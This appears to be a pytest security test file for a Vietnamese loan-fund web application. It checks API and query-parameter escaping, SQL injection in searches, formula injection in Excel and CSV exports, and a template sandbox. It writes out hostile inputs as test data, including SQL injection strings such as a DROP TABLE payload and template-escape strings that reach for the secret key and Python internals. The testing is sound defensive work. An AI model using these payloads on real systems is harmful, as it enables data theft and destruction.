    # statement is a .xlsx or .csv file (a PDF is refused whatever its name); the bank's
    # code is read from the multipart form (a JSON body has none) and is capitals and digits.
    ApiCase(
        "POST /bank-statements", "accountant", lambda w, t: "/bank-statements",
        lambda w, t: {"bank": "AGRIBANK"}, ("file",), upload=True, refuses_all=True,
    ),
    ApiCase(
        "POST /bank-statements", "accountant", lambda w, t: "/bank-statements",
        lambda w, t: {}, ("bank",), refuses_all=True, tag=" (bank)",
    ),
    ApiCase(
        "POST /bank-lines/{line_id}", "accountant", lambda w, t: f"/bank-lines/{t.id}",
        lambda w, t: {"action": "ignore", "reason": "Không phải tiền trả nợ"},
        ("action", "reason"), target=bank_line, used_up=True,
    ),
    ApiCase(
        "POST /bank-batches/{batch_id}/approve", "director",
        lambda w, t: f"/bank-batches/{t.id}/approve", lambda w, t: {"note": "Đã đối chiếu"},
        ("note",), target=pending_bank_batch, used_up=True,
    ),
    ApiCase(
        "POST /bank-batches/{batch_id}/reject", "director",
        lambda w, t: f"/bank-batches/{t.id}/reject", lambda w, t: {"reason": "Chuyển nhầm"},
        ("reason",), target=pending_bank_batch, used_up=True,
    ),
    ApiCase(
        "POST /committee/meetings", "board", lambda w, t: "/committee/meetings",
        lambda w, t: _new_meeting(), ("quarter", "held_on", "place", "members", "minutes"),
        view=lambda w, t, b, a: f"/committee/{a['id']}",
    ),
    ApiCase(
        "PATCH /committee/meetings/{meeting_id}", "board",
        lambda w, t: f"/committee/meetings/{w.extra['meeting'].id}",
        lambda w, t: {"held_on": "2026-10-16", "place": "Trụ sở Quỹ",
                      "members": "Nguyễn Văn An", "minutes": "Biên bản"},
        ("held_on", "place", "members", "minutes"), batch=1, view=_meeting_url,
    ),
    ApiCase(
        "PUT /committee/meetings/{meeting_id}/decisions/{write_off_id}", "board",
        lambda w, t: f"/committee/meetings/{w.extra['meeting'].id}/decisions/{t.id}",
        lambda w, t: {"decision": "defer", "reason": "Cần thêm hồ sơ"}, ("decision", "reason"),
        target=write_off_proposal, batch=1, view=_meeting_url,
    ),
    ApiCase(
        "POST /form-templates/{kind}", "director", lambda w, t: f"/form-templates/{WORDING}",
        lambda w, t: {"body": w.extra["wording"], "note": "Sửa lời văn"}, ("body", "note"),
        batch=1, view=lambda w, t, b, a: f"/admin/forms/{WORDING}",
    ),
]  # fmt: skip


_quarters = itertools.count()


def _new_meeting() -> dict[str, Any]:
    """A meeting of a quarter of its own (one per quarter), held the day after it ended."""
    n = next(_quarters)
    quarter = f"{2001 + n // 4}-Q{n % 4 + 1}"
    held_on = committee.quarter_end(quarter) + timedelta(days=1)  # type: ignore[operator]
    return {"quarter": quarter, "held_on": held_on.isoformat(), "place": "Trụ sở Quỹ",
            "members": "Nguyễn Văn An", "minutes": "Biên bản"}  # fmt: skip


def _string_fields(schema: dict[str, Any], components: dict[str, Any]) -> set[str]:
    while "$ref" in schema:
        schema = components[schema["$ref"].rsplit("/", 1)[-1]]
    found = set()
    for name, spec in schema.get("properties", {}).items():
        while "$ref" in spec:
            spec = components[spec["$ref"].rsplit("/", 1)[-1]]
        kinds = [spec.get("type")] + [s.get("type") for s in spec.get("anyOf", [])]
        if "string" in kinds or (isinstance(spec.get("type"), list) and "string" in spec["type"]):
            found.add(name)
    return found


def test_every_api_body_string_is_attacked(world: World) -> None:
    document = world.api_client.get(f"{API}/openapi.json").get_json()
    components = document.get("components", {}).get("schemas", {})
    wanted: dict[str, set[str]] = {}
    for path, operations in document["paths"].items():
        for method, operation in operations.items():
            for media in operation.get("requestBody", {}).get("content", {}).values():
                fields = _string_fields(media.get("schema", {}), components)
                if fields:
                    wanted.setdefault(f"{method.upper()} {path}", set()).update(fields)
    covered: dict[str, set[str]] = {}
    for case in API_CASES:
        covered.setdefault(case.op, set()).update(case.fields)
    assert covered == wanted


@pytest.fixture(scope="module")
def api_problems(world: World, web_problems: dict[str, list[str]]) -> dict[str, list[str]]:
    return {case.name: run_api_case(world, case) for case in API_CASES}


@pytest.mark.parametrize("case", [c.name for c in API_CASES])
def test_api_payloads_are_refused_or_stored_and_shown_escaped(
    api_problems: dict[str, list[str]], case: str
) -> None:
    problems = api_problems[case]
    assert not problems, "\n".join(problems)


# --- reflected: every query parameter of every GET route -------------------------------------

_READ: set[str] = set()


class _RecordingArgs(ImmutableMultiDict):
    """Query parameters that remember which names the view asked for."""

    def __getitem__(self, key: str) -> Any:
        _READ.add(key)
        return super().__getitem__(key)

    def __contains__(self, key: object) -> bool:
        _READ.add(str(key))
        return super().__contains__(key)

    def get(self, key: str, default: Any = None, type: Any = None) -> Any:
        _READ.add(key)
        return super().get(key, default, type)

    def getlist(self, key: str, type: Any = None) -> list[Any]:
        _READ.add(key)
        return super().getlist(key, type)

    def items(self, multi: bool = False) -> Any:
        _READ.add(COPIED)
        return super().items(multi)

    def keys(self) -> Any:
        _READ.add(COPIED)
        return super().keys()

    def __iter__(self) -> Any:
        _READ.add(COPIED)
        return super().__iter__()

    def to_dict(self, flat: bool = True) -> Any:
        _READ.add(COPIED)
        return super().to_dict(flat)


COPIED = "*"
# Views that copy their whole query string and read it from the copy: what they read.
_REPORTS = {"fund_balance": ("as_of", "from"), "lending_activity": ("from", "to", "group_by"),
            "par": ("as_of",), "classification": ("quarter",), "trial_balance": ("from", "to"),
            "account_ledger": ("account", "from", "to"),
            "operations": ("period", "from", "to"), "plan_actual": ("year", "as_of"),
            "ranking": ("year", "as_of"), "support_claim": ("scheme", "to", "claim")}  # fmt: skip
COPIED_READS = {
    "documents.statement": ("from", "to"),
    # The readiness check's GET form, read as a whole by its rules.
    "portal.readiness_check": ("total_project_cost", "own_equity", "requested_amount",
                               "purpose", "collateral"),
    **{f"reports.{name}{suffix}": reads for name, reads in _REPORTS.items()
       for suffix in ("", "_pdf", "_xlsx")},
}  # fmt: skip


def _path_values(world: World) -> dict[str, Any]:
    """A real id for every kind of path parameter, each visible to its reader."""

    notice = db.session.scalar(
        select(Notice).where(Notice.cooperative_id == world.coop.id).order_by(Notice.id)
    )
    assert notice is not None, "close of day sent the cooperative no notice"
    token = db.session.scalar(select(ApiToken).where(ApiToken.user_id == world.users["officer"].id))
    loan_id = world.active.id
    return {
        "loan_id": loan_id,
        "app_id": world.own_draft.id,
        "application_id": world.own_draft.id,
        "doc_id": world.document.id,
        "coop_id": world.coop.id,
        "user_id": world.users["officer"].id,
        "token_id": token.id,
        "disbursement_id": db.session.scalar(
            select(Disbursement.id).where(Disbursement.loan_id == loan_id)
        ),
        "repayment_id": db.session.scalar(
            select(Repayment.id).where(Repayment.loan_id == loan_id).order_by(Repayment.id)
        ),
        "notice_id": notice.id,
        "key": "late_interest_rate",
        "filename": "css/app.css",
        "collateral_id": world.extra["collateral"].id,
        "plan_id": world.extra["plan"].id,
        "meeting_id": world.extra["meeting"].id,
        "year": RANKED_YEAR,
        "scheme_id": world.extra["scheme"].id,
        "claim_id": world.extra["claim"].id,
        # A statement the bank-line cases imported (their reasons stored on its line).
        "statement_id": db.session.scalar(select(BankStatement.id).order_by(BankStatement.id)),
        # The credit file: the contract of the active loan, as issued first.
        "kind": WORDING,
        "subject_type": "loan",
        "subject_id": loan_id,
        "version": 1,
        ("credit_file", "key"): WORDING,
        # A decision exists once the application is decided: the active loan's.
        ("api.application_decision_pdf", "application_id"): world.active.application_id,
    }


def _get_rules(app: Flask) -> list[Any]:
    return sorted(
        (r for r in app.url_map.iter_rules() if "GET" in r.methods),
        key=lambda r: r.rule,
    )


def _api_query_names(world: World) -> dict[str, list[str]]:
    document = world.api_client.get(f"{API}/openapi.json").get_json()
    return {
        API + path: [p["name"] for p in ops["get"].get("parameters", []) if p["in"] == "query"]
        for path, ops in document["paths"].items()
        if "get" in ops
    }


def _row_counts() -> dict[str, int]:
    return {
        t.name: db.session.scalar(select(func.count()).select_from(t)) or 0
        for t in db.metadata.sorted_tables
    }


@dataclass
class Reader:
    """Who reads a route: a web client, or API headers."""

    get: Callable[..., Any]


def _readers(world: World) -> list[Reader]:
    return [Reader(world.web[who].get) for who in ("everyone", "admin", "cooperative")]


def _api_readers(world: World) -> list[Reader]:
    client = world.api_client
    return [
        Reader(lambda url, **kw: client.get(url, headers=world.api["everyone"], **kw)),
        Reader(lambda url, **kw: client.get(url, headers=world.api["admin"], **kw)),
        Reader(lambda url, **kw: client.get(url, headers=world.api["cooperative"], **kw)),
    ]


def _reflected(world: World, url: str, reader: Reader, names: list[str]) -> list[str]:
    problems = []
    for name in names:
        for payload in PAYLOADS:
            response = reader.get(url, query_string={name: payload})
            where = f"GET {url}?{name}={label(payload)}"
            problems += _check(response, where)
            if url.startswith(API) and response.mimetype not in (
                "application/json", "application/pdf",
                "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "text/csv",
            ):  # fmt: skip
                problems.append(f"{where}: answered {response.mimetype}")
    return problems


# The writes a GET makes by design: opening a credit-file document issues it (a version, its
# reference number, its audit row) and the wording page stores the shipped defaults.
ISSUED_ON_READ = {"file_documents", "counters", "audit_log", "form_templates"}


def test_every_get_route_with_payloads_in_every_parameter_it_reads(
    world: World, web_problems: dict[str, list[str]], api_problems: dict[str, list[str]]
) -> None:
    """Every GET route of the URL map, with the payloads stored above in place: first as it
    is (its page shows them escaped), then with each payload in each query parameter the
    view reads (the web views' reads are recorded; the API's are in its document)."""
    app = world.app
    values = _path_values(world)
    api_names = _api_query_names(world)
    counts = _row_counts()
    original = app.request_class
    app.request_class = type(
        "RecordingRequest", (original,), {"parameter_storage_class": _RecordingArgs}
    )
    problems: list[str] = []
    exercised: set[str] = set()
    try:
        for rule in _get_rules(app):
            url = rule.rule
            for name in rule.arguments:
                value = values.get(
                    (rule.endpoint, name),
                    values.get((rule.endpoint.split(".")[0], name), values[name]),
                )
                url = re.sub(rf"<(?:[a-z]+:)?{name}>", str(value), url)
            is_api = url.startswith(API)
            for reader in _api_readers(world) if is_api else _readers(world):
                _READ.clear()
                response = reader.get(url)
                if response.status_code in (401, 403, 404):
                    continue
                problems += _check(response, f"GET {url}")
                if is_api:
                    names = api_names[re.sub(r"<(?:int:)?(\w+)>", r"{\1}", rule.rule)]
                elif COPIED in _READ and rule.endpoint not in COPIED_READS:
                    problems.append(f"GET {url}: copies its query; say what it reads")
                    names = []
                else:
                    names = sorted((_READ - {COPIED}) | set(COPIED_READS.get(rule.endpoint, ())))
                exercised.update(names)
                problems += _reflected(world, url, reader, names)
                break
            else:
                problems.append(f"GET {url}: nobody may read it")
    finally:
        app.request_class = original
    problems += _reflected(world, "/login", Reader(world.app.test_client().get), ["next"])
    assert not problems, "\n".join(problems)
    wanted = {"q", "status", "former_district_code", "page", "per_page", "from", "to", "as_of",
              "cooperative_id"}  # fmt: skip
    assert wanted <= exercised, wanted - exercised
    db.session.expire_all()
    after = _row_counts()
    assert {t: n for t, n in after.items() if t not in ISSUED_ON_READ} == {
        t: n for t, n in counts.items() if t not in ISSUED_ON_READ
    }
    assert all(after[t] >= counts[t] for t in ISSUED_ON_READ)


# --- SQL in searches and filters, on SQLite and on PostgreSQL ---------------------------------

NO_MATCH = "khongcoketqua"
# Behind a word no row holds: built into the SQL text, each would match every row (or run a
# second statement); bound as a parameter, it matches nothing.
SQL_IN_SEARCH = (
    f"{NO_MATCH}' OR '1'='1",
    f"{NO_MATCH}') OR ('1'='1",
    f"{NO_MATCH}%' OR 1=1 --",
    f"{NO_MATCH}'; DROP TABLE loans; --",
    f"{NO_MATCH}\x00' OR '1'='1",
)
# (web page or API list, parameter, the pattern of one listed row on a web page)
SEARCHES = (
    ("/cooperatives/", "q", r'href="/cooperatives/(\d+)"'),
    ("/cooperatives/", "sector", r'href="/cooperatives/(\d+)"'),
    ("/applications/?status=all", "q", r'href="/applications/(\d+)"'),
    ("/loans/", "q", r'href="/loans/(\d+)"'),
    ("/admin/users", "q", r'href="/admin/users/(\d+)"'),
    ("/audit/", "entity", r"<tr(?: [^>]*)?>\s*<td"),
    ("/audit/", "user", r"<tr(?: [^>]*)?>\s*<td"),
    (f"{API}/cooperatives", "q", ""),
    (f"{API}/cooperatives", "sector", ""),
    (f"{API}/loans", "q", ""),
    (f"{API}/related-groups", "q", ""),
    (f"{API}/users", "q", ""),
    (f"{API}/audit", "actor", ""),
    (f"{API}/audit", "entity", ""),
    (f"{API}/audit", "action", ""),
)


def _listed(world: World, url: str, row: str, query: dict[str, str]) -> int:
    path, _sep, fixed = url.partition("?")
    query = {**dict(p.split("=") for p in fixed.split("&") if p), **query}
    # The users and the audit log are the admin's to read (and the controller's).
    who = "admin" if any(part in path for part in ("/users", "/audit")) else "everyone"
    if url.startswith(API):
        response = world.api_client.get(path, query_string=query, headers=world.api[who])
        assert response.status_code < 500, (url, query)
        return response.get_json()["total"] if response.status_code == 200 else 0
    response = world.web[who].get(path, query_string=query)
    assert response.status_code < 500, (url, query)
    return len(re.findall(row, body_of(response)))


def test_sql_in_searches_neither_widens_a_list_nor_drops_anything(world: World) -> None:
    tables = set(sa_inspect(db.engine).get_table_names())
    counts = _row_counts()
    problems = []
    for url, name, row in SEARCHES:
        everything = _listed(world, url, row, {})
        nothing = _listed(world, url, row, {name: NO_MATCH})
        assert everything > nothing, f"{url}: the list shows nothing to widen"
        for payload in SQL_IN_SEARCH:
            listed = _listed(world, url, row, {name: payload})
            if listed > nothing:
                problems.append(f"{url}?{name}={payload!r}: {listed} rows, not {nothing}")
    assert not problems, "\n".join(problems)
    assert set(sa_inspect(db.engine).get_table_names()) == tables
    db.session.expire_all()
    assert _row_counts() == counts


# --- names in spreadsheets and PDF documents ----------------------------------------------------

XLSX_EXPORTS = {
    # (url, whether every name of NAMES_IN_FILES is in it)
    "/imports/loans/template.xlsx?loans=1": True,
    f"{API}/imports/loans/template.xlsx?loans=1": True,
    "/reports/lending-activity.xlsx?group_by=sector": True,
    f"{API}/reports/lending-activity.xlsx?group_by=sector": True,
    "/reports/par.xlsx": False,
    "/reports/classification.xlsx": False,
    "/reports/fund-balance.xlsx": False,
}
_FORMULA_START = ("=", "+", "-", "@")


def _download(world: World, url: str) -> bytes:
    if url.startswith(API):
        response = world.api_client.get(url, headers=world.api["everyone"])
    else:
        response = world.web["everyone"].get(url)
    assert response.status_code == 200, url
    return response.data


@pytest.mark.skipif(bool(PG_URL), reason=ON_PG)
@pytest.mark.parametrize("url", list(XLSX_EXPORTS))
def test_names_in_excel_exports_stay_text(world: World, url: str) -> None:
    book = load_workbook(io.BytesIO(_download(world, url)))
    texts = set()
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate}: {cell.value}"
                if isinstance(cell.value, str):
                    texts.add(cell.value)
    if XLSX_EXPORTS[url]:
        assert set(NAMES_IN_FILES) <= texts


@pytest.mark.skipif(bool(PG_URL), reason=ON_PG)
@pytest.mark.parametrize("url", ["/imports/loans/template.csv?loans=1",
                                 f"{API}/imports/loans/template.csv?loans=1"])  # fmt: skip
def test_names_in_the_csv_loan_book_cannot_start_a_formula(world: World, url: str) -> None:
    rows = list(csv.reader(io.StringIO(_download(world, url).decode("utf-8-sig"))))
    fields = [value for row in rows[1:] for value in row]
    assert [f for f in fields if f.startswith(_FORMULA_START)] == []
    for name in FORMULAS:
        assert fields.count("'" + name) == 3  # name, sector and project of its loan
    for name in (SCRIPT, IMG):
        assert fields.count(name) == 3


def _pdf_text(data: bytes) -> str:
    assert data.startswith(b"%PDF")
    done = subprocess.run(["pdftotext", "-", "-"], input=data, capture_output=True, check=True)
    return re.sub(r"\s+", "", done.stdout.decode())


@pytest.mark.skipif(bool(PG_URL), reason=ON_PG)
def test_names_in_pdf_documents_are_printed_as_text(world: World) -> None:
    """WeasyPrint reads HTML: an unescaped name would become an element (nothing printed,
    or an image fetched); escaped, it is printed as typed."""
    for name in (SCRIPT, IMG):
        loan = world.named[name]
        for url in (
            f"/loans/{loan.id}/statement.pdf",
            f"/cooperatives/{loan.cooperative_id}/debt-confirmation.pdf",
        ):
            assert re.sub(r"\s+", "", name) in _pdf_text(_download(world, url)), url


# --- the credit file's wording: a template of the PDFs, in a sandbox -----------------------------

# Ways out of a template to the application: its settings, and Python's classes.
ESCAPES = (CONFIG, "{{ config.SECRET_KEY }}", "{{ ''.__class__.__mro__[1].__subclasses__() }}")


@pytest.mark.skipif(bool(PG_URL), reason=ON_PG)
def test_the_wording_reaches_only_the_funds_details(world: World) -> None:
    """The director's wording runs in a sandbox: ``config`` is the fund's name, address and
    place, not the application's settings, and Python's internals stay out of reach. A
    wording that tries is refused with a message or printed without them."""
    editor, url = world.web["director"], f"/admin/forms/{WORDING}"
    loan = world.active
    try:
        for escape_ in ESCAPES:
            saved = editor.post(url, data={"body": f"{escape_}\n{world.extra['wording']}",
                                           "note": "Thử lời văn"})  # fmt: skip
            assert saved.status_code < 500, escape_
            if not _redirected(saved):
                assert _refused_with_message(editor, saved), escape_
                continue
            pdf = world.web["officer"].get(f"/file/{WORDING}/{loan.id}.pdf")
            assert pdf.status_code == 200, escape_
            text = _pdf_text(pdf.data)
            shown = [
                m for m in ("testing-secret", "SQLALCHEMY", "SECRET_KEY", "<class") if m in text
            ]
            assert not shown, (escape_, shown)
            assert world.app.config["FUNDAPP_NAME"].replace(" ", "") in text
    finally:
        restored = editor.post(url, data={"body": world.extra["wording"], "note": "Trả lại"})
        assert _redirected(restored)
